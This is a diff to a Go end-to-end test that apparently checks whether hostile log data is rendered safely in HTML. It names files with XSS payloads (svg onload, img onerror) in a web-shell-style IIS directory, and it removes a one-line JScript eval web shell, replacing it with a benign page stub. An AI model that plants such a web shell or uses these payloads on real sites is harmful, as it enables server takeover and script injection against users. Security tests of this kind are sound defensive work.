@@ -4,6 +4,7 @@ import (
 	"bufio"
 	"bytes"
 	"encoding/csv"
+	"fmt"
 	"os"
 	"path/filepath"
 	"regexp"
@@ -41,7 +42,7 @@ func TestEndToEndHostileLogsInHTML(t *testing.T) {
 	shells := filepath.Join(dir, "inetpub/wwwroot/aspnet_client")
 	for i, p := range []string{"<svg onload=" + pwn + ">", "<img src=x onerror=" + pwn + ">"} {
 		name := filepath.Join(shells, strings.ReplaceAll(p, "/", "_")+".aspx")
-		if err := os.WriteFile(name, []byte(`<%@ Page Language="Jscript"%><%eval(Request.Item["`+string(rune('a'+i))+`"],"unsafe");%>`), 0o644); err != nil {
+		if err := os.WriteFile(name, []byte(fmt.Sprintf(`<%%@ Page Language="C#" %%>page %d`, i)), 0o644); err != nil {
 			t.Fatal(err)
 		}
 	}
